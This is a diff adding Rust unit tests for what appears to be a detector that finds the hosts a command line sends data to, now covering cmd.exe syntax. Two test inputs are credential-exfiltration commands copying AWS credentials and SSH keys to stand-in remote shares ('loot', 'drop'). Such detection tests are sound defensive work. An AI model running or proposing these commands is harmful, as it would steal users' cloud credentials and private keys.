@@ -240,5 +240,20 @@ mod tests {
             vec![("share.example".to_string(), false)]
         );
         assert!(sent("cp a.txt b.txt").is_empty());
+        // a cmd.exe line typed as a shell line: its backslashes are separators
+        assert_eq!(
+            sent(r"copy %USERPROFILE%\.aws\credentials \\192.0.2.61\loot\c"),
+            vec![("192.0.2.61".to_string(), true)]
+        );
+        assert_eq!(
+            sent(r"xcopy %USERPROFILE%\.ssh \\files.example\drop\ /s /y"),
+            vec![("files.example".to_string(), true)]
+        );
+        let from = sent(r"copy \\buildserver.example\releases\app.exe build\");
+        assert!(!from.is_empty(), "{from:?}");
+        assert!(
+            from.iter().all(|(h, s)| h == "buildserver.example" && !s),
+            "{from:?}"
+        );
     }
 }
